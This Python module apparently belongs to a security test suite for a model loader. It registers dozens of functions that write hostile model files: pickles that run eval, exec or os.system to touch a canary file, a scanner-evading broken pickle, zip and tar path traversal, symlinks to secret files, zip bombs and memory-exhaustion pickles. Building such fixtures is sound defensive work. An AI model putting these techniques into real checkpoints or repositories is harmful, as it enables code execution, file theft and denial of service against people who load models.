"""Files and folders that attack by what they are: each maker writes one into a folder and returns what to open."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

Make = Callable[[Path, dict[str, Any]], Path]
FILES: dict[str, Make] = {}
CONFIG = {
    "model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 8, "intermediate_size": 8,
    "num_hidden_layers": 1, "num_attention_heads": 1, "vocab_size": 8,
}  # fmt: skip


def attack(make: Make) -> Make:
    """Register a maker under its name."""
    FILES[make.__name__.replace("_", "-")] = make
    return make


class Calls:
    """Pickles as a call.

    Args:
        function: what is called.
        arguments: with what.
    """

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> Any:
        return self.reduced


def model(folder: Path, config: dict[str, Any] | None = None) -> Path:
    """Make a model folder without weights."""
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps(CONFIG | (config or {})))
    return folder


def safetensors(file: Path) -> None:
    """Write a small honest file."""
    from safetensors.torch import save_file

    save_file({"lm_head.weight": torch.ones(8, 8)}, file)


def touch(names: dict[str, Any]) -> Calls:
    """Return what makes the canary file when it is unpickled."""
    return Calls(open, names["canary"], "w")


@attack
def call_beside_tensors(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"a": torch.ones(2), "b": touch(names)}, model(folder) / "pytorch_model.bin")
    return folder


@attack
def call_in_a_stream(folder: Path, names: dict[str, Any]) -> Path:
    file = model(folder) / "pytorch_model.bin"
    torch.save([Calls(exec, f"open({names['canary']!r}, 'w')")], file, _use_new_zipfile_serialization=False)
    return folder


@attack
def call_by_getattr(folder: Path, names: dict[str, Any]) -> Path:
    chain = Calls(eval, f"getattr(__import__('os'), 'sys' + 'tem')('touch {names['canary']}')")
    (model(folder) / "model.pt").write_bytes(pickle.dumps({"a": chain}))
    return folder


@attack
def nested_pickle(folder: Path, names: dict[str, Any]) -> Path:
    inner = pickle.dumps(touch(names))
    (model(folder) / "model.pt").write_bytes(pickle.dumps(Calls(pickle.loads, inner)))
    return folder


@attack
def nested_torch_load(folder: Path, names: dict[str, Any]) -> Path:
    inner = io.BytesIO()
    torch.save(touch(names), inner)
    (model(folder) / "model.pt").write_bytes(pickle.dumps(Calls(torch.storage._load_from_bytes, inner.getvalue())))
    return folder


@attack
def protocol_0(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.pt").write_bytes(b"cos\nsystem\n(S'touch %s'\ntR." % names["canary"].encode())
    return folder


@attack
def second_pickle_behind_the_first(folder: Path, names: dict[str, Any]) -> Path:
    body = pickle.dumps({"a": 1}) + pickle.dumps(touch(names))
    (model(folder) / "model.pt").write_bytes(body)
    return folder


@attack
def scanner_breaker(folder: Path, names: dict[str, Any]) -> Path:
    """Broken behind the call, as packers write it that fool scanners."""
    (model(folder) / "model.pt").write_bytes(pickle.dumps(touch(names))[:-1] + b"\xff\xfe")
    return folder


@attack
def torchscript_with_code(folder: Path, names: dict[str, Any]) -> Path:
    with zipfile.ZipFile(model(folder) / "model.pt", "w") as archive:
        archive.writestr("m/data.pkl", pickle.dumps(touch(names), 2))
        archive.writestr("m/constants.pkl", pickle.dumps((), 2))
        archive.writestr("m/code/__torch__.py", "op_version_set = 1\n")
        archive.writestr("m/version", "3\n")
    return folder


@attack
def pickle_called_safetensors(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.safetensors").write_bytes(pickle.dumps(touch(names)))
    return folder


@attack
def zip_called_safetensors(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"a": touch(names)}, model(folder) / "model.safetensors")
    return folder


@attack
def pickle_called_gguf(folder: Path, names: dict[str, Any]) -> Path:
    folder.mkdir()
    (folder / "model.gguf").write_bytes(pickle.dumps(touch(names)))
    return folder / "model.gguf"


@attack
def program_called_checkpoint(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "pytorch_model.bin").write_bytes(b"#!/bin/sh\ntouch " + names["canary"].encode())
    return folder


@attack
def zip_bomb(folder: Path, names: dict[str, Any]) -> Path:
    with zipfile.ZipFile(model(folder) / "model.pt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m/data.pkl", pickle.dumps({}))
        archive.writestr("m/data/0", bytes(256 << 20))
    return folder


@attack
def zip_of_overlapping_members(folder: Path, names: dict[str, Any]) -> Path:
    file = model(folder) / "model.pt"
    torch.save({"a": torch.ones(1000), "b": torch.zeros(1000)}, file)
    content = bytearray(file.read_bytes())
    with zipfile.ZipFile(file) as archive:
        first, second = (archive.getinfo(f"model/data/{n}").header_offset for n in (0, 1))
    place = content.rindex(struct.pack("<L", second) + b"model/data/1")
    content[place : place + 4] = struct.pack("<L", first)
    file.write_bytes(content)
    return folder


@attack
def zip_that_climbs(folder: Path, names: dict[str, Any]) -> Path:
    file = model(folder) / "model.pt"
    torch.save({"a": torch.ones(2)}, file)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("../" * 12 + names["canary"].lstrip("/"), b"x")
    return folder


@attack
def zip_with_a_link(folder: Path, names: dict[str, Any]) -> Path:
    file = model(folder) / "model.pt"
    torch.save({"a": torch.ones(2)}, file)
    with zipfile.ZipFile(file, "a") as archive:
        link = zipfile.ZipInfo("model/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, names["secret_file"])
    return folder


def _tar(folder: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    with tarfile.open(model(folder) / "model.pt", "w:", format=tarfile.USTAR_FORMAT) as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return folder


@attack
def tar_that_climbs(folder: Path, names: dict[str, Any]) -> Path:
    return _tar(folder, (tarfile.TarInfo("../" * 8 + "tmp/evil"), b"x"), (tarfile.TarInfo("pickle"), b"x"))


@attack
def tar_with_links(folder: Path, names: dict[str, Any]) -> Path:
    link = tarfile.TarInfo("storages")
    link.type, link.linkname = tarfile.SYMTYPE, names["secret_file"]
    return _tar(folder, (link, b""), (tarfile.TarInfo("pickle"), b"x"), (tarfile.TarInfo("tensors"), b"x"))


@attack
def tar_with_a_call(folder: Path, names: dict[str, Any]) -> Path:
    none = pickle.dumps(0, 2)
    return _tar(
        folder,
        (tarfile.TarInfo("sys_info"), pickle.dumps({}, 2)),
        (tarfile.TarInfo("pickle"), pickle.dumps(touch(names), 2)),
        (tarfile.TarInfo("tensors"), none),
        (tarfile.TarInfo("storages"), none + pickle.dumps([], 2)),
    )


@attack
def weights_that_are_a_link(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "pytorch_model.bin").symlink_to(names["secret_file"])
    return folder


@attack
def weights_that_are_a_pipe(folder: Path, names: dict[str, Any]) -> Path:
    os.mkfifo(model(folder) / "pytorch_model.bin")
    return folder


@attack
def weights_that_are_a_device(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.safetensors").symlink_to("/dev/zero")
    return folder


@attack
def index_that_climbs(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"a": torch.ones(2)}, folder.with_suffix(".outside.bin"))
    index = {"weight_map": {"a": f"../{folder.with_suffix('.outside.bin').name}"}}
    (model(folder) / "pytorch_model.bin.index.json").write_text(json.dumps(index))
    return folder


@attack
def safetensors_index_that_climbs(folder: Path, names: dict[str, Any]) -> Path:
    safetensors(folder.with_suffix(".outside.safetensors"))
    index = {"weight_map": {"lm_head.weight": f"../{folder.with_suffix('.outside.safetensors').name}"}}
    (model(folder) / "model.safetensors.index.json").write_text(json.dumps(index))
    return folder


@attack
def code_by_auto_map(folder: Path, names: dict[str, Any]) -> Path:
    config = {"model_type": "own", "auto_map": {"AutoConfig": "own.C", "AutoModelForCausalLM": "own.M"}}
    (model(folder, config) / "own.py").write_text(f"open({names['canary']!r}, 'w')\n")
    safetensors(folder / "model.safetensors")
    return folder


@attack
def code_by_kernel(folder: Path, names: dict[str, Any]) -> Path:
    safetensors(model(folder, {"_attn_implementation": "someone/kernel:run"}) / "model.safetensors")
    return folder


@attack
def endless_chat_template(folder: Path, names: dict[str, Any]) -> Path:
    safetensors(model(folder) / "model.safetensors")
    template = "{% for a in range(99999999) %}{% for b in range(99999999) %}{% endfor %}{% endfor %}"
    (folder / "chat_template.jinja").write_text(template)
    return folder


@attack
def a_billion_layers(folder: Path, names: dict[str, Any]) -> Path:
    safetensors(model(folder, {"num_hidden_layers": 10**9}) / "model.safetensors")
    return folder


@attack
def deep_nesting(folder: Path, names: dict[str, Any]) -> Path:
    body = b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."
    (model(folder) / "model.pt").write_bytes(body)
    return folder


@attack
def huge_memo(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.pt").write_bytes(b"\x80\x02Nr\xff\xff\xff\x7f.")
    return folder


@attack
def huge_string(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.pt").write_bytes(b"\x80\x04\x8d" + struct.pack("<Q", 2**50) + b"x.")
    return folder


@attack
def exponential_lists(folder: Path, names: dict[str, Any]) -> Path:
    value: Any = []
    for _ in range(60):
        value = [value, value]
    (model(folder) / "model.pt").write_bytes(pickle.dumps({"state_dict": value}))
    return folder


@attack
def list_in_itself(folder: Path, names: dict[str, Any]) -> Path:
    value: dict[str, Any] = {"a": []}
    value["state_dict"] = value
    (model(folder) / "model.pt").write_bytes(pickle.dumps(value))
    return folder


@attack
def tensor_beyond_its_storage(folder: Path, names: dict[str, Any]) -> Path:
    file = model(folder) / "model.pt"
    torch.save({"a": torch.ones(1000)}, file)
    content = file.read_bytes()
    assert content.count(b"K\x00M\xe8\x03\x85") == 1
    # 25,000 elements where 1,000 are stored; the checksum of the member stays wrong, which readers do not look at
    file.write_bytes(content.replace(b"K\x00M\xe8\x03\x85", b"K\x00M\xa8\x61\x85"))
    return folder


@attack
def tensor_of_a_million_repeats(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"a": torch.ones(1).expand(1 << 45)}, model(folder) / "model.pt")
    return folder


@attack
def one_storage_many_times(folder: Path, names: dict[str, Any]) -> Path:
    base = torch.ones(1 << 20)
    torch.save({str(n): base for n in range(1000)}, model(folder) / "model.pt")
    return folder


@attack
def names_that_are_paths(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"../" * 9 + names["canary"]: torch.ones(2)}, model(folder) / "model.pt")
    return folder


@attack
def names_with_escapes(folder: Path, names: dict[str, Any]) -> Path:
    torch.save({"\x1b]0;owned\x07": torch.ones(2)}, model(folder) / "model.pt")
    return folder


@attack
def extension_codes(folder: Path, names: dict[str, Any]) -> Path:
    (model(folder) / "model.pt").write_bytes(b"\x80\x02\x82\x01.")
    return folder
